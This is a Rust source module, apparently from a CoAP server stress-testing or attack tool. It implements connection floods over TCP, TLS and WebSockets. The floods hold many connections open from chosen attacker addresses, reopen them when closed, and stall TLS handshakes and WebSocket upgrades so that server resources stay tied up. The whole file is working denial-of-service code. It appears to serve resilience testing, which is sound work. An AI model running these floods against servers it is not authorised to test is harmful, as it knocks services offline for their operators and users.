//! Connection floods over TCP, TLS and WebSockets: `ctx.connections` connections held
//! open from the attacker's address(es), each reopened when the server closes it,
//! at most `ctx.rate` connection attempts per second.
//!
//! - `tcp`: connects and says nothing (no CSM).
//! - `tcp-csm`: connects, sends a CSM (so the server counts it as speaking CoAP), then
//!   says nothing.
//! - `ws`: upgrades to a WebSocket, then says nothing.
//! - `tls`, `wss`: sends a TLS ClientHello and never finishes the handshake.

use crate::dtls_hello::tls_client_hello;
use crate::{count, AttackCtx, Held, Mode, Pacer, Rng};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;

/// A connection the server closes within this long counts as refused.
const REFUSED_WITHIN: Duration = Duration::from_millis(500);

/// Runs the flood until `ctx.stop`.
pub async fn flood(ctx: AttackCtx, mode: Mode) {
    let ctx = Arc::new(ctx);
    let slots = Arc::new(Semaphore::new(ctx.connections));
    let held_now = Arc::new(Held::default());
    let mut pacer = Pacer::new(ctx.rate);
    let mut rng = Rng::new(11);
    let mut n = 0usize;
    let mut tick = tokio::time::interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    let mut tasks = tokio::task::JoinSet::new();
    while !ctx.stopped() {
        tick.tick().await;
        for _ in 0..pacer.due(u64::from(ctx.rate / 10 + 1)) {
            let Ok(slot) = slots.clone().try_acquire_owned() else {
                break;
            };
            let source = SocketAddr::new(ctx.source_for(n), 0);
            n += 1;
            let mut random = [0u8; 32];
            random.copy_from_slice(&rng.bytes(32));
            let (ctx, held_now) = (ctx.clone(), held_now.clone());
            tasks.spawn(async move {
                let outcome = hold(&ctx, mode, source, &random, &held_now).await;
                count(&ctx.counters, outcome, 1);
                drop(slot);
            });
        }
        while tasks.try_join_next().is_some() {}
    }
    held_now.report(
        &ctx.counters,
        "connections held at once (peak)",
        "still open at the end",
    );
    tasks.abort_all();
}

async fn connect(source: SocketAddr, target: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = if target.is_ipv6() {
        TcpSocket::new_v6()?
    } else {
        let s = TcpSocket::new_v4()?;
        s.bind(source)?;
        s
    };
    socket.connect(target).await
}

/// One connection: open it, say what the mode says, then wait until the server closes
/// it or the flood ends. Returns how it ended.
async fn hold(
    ctx: &AttackCtx,
    mode: Mode,
    source: SocketAddr,
    random: &[u8; 32],
    held_now: &Held,
) -> &'static str {
    let mut stream =
        match tokio::time::timeout(Duration::from_secs(3), connect(source, ctx.target)).await {
            Ok(Ok(s)) => s,
            Ok(Err(_)) => return "connect failed",
            Err(_) => return "connect timed out",
        };
    let opened = Instant::now();
    held_now.opened();
    let outcome = async {
        let hello = match mode {
            Mode::Tls | Mode::Wss => tls_client_hello(random),
            // An empty 7.01 CSM (RFC 8323 §3.2: no length, no token; code 7.01).
            Mode::TcpCsm => vec![0x00, 0xe1],
            Mode::Ws => format!(
                "GET /.well-known/coap HTTP/1.1\r\nHost: {}\r\nUpgrade: websocket\r\n\
                 Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
                 Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: coap\r\n\r\n",
                ctx.target
            )
            .into_bytes(),
            _ => Vec::new(),
        };
        if !hello.is_empty() && stream.write_all(&hello).await.is_err() {
            return "closed by the server at once";
        }
        let mut buf = [0u8; 4096];
        let mut first = true;
        loop {
            let read = tokio::select! {
                r = stream.read(&mut buf) => r,
                _ = wait_stop(ctx) => return "held until the end of the flood",
            };
            match read {
                Ok(n) if n > 0 => {
                    if first && mode == Mode::Ws {
                        let head = String::from_utf8_lossy(&buf[..n.min(12)]).into_owned();
                        count(
                            &ctx.counters,
                            &format!("upgrade answer {}", head.trim_end()),
                            1,
                        );
                    }
                    first = false;
                }
                _ if opened.elapsed() < REFUSED_WITHIN => return "closed by the server at once",
                _ => return "closed by the server later",
            }
        }
    }
    .await;
    held_now.closed();
    outcome
}

async fn wait_stop(ctx: &AttackCtx) {
    while !ctx.stopped() {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}
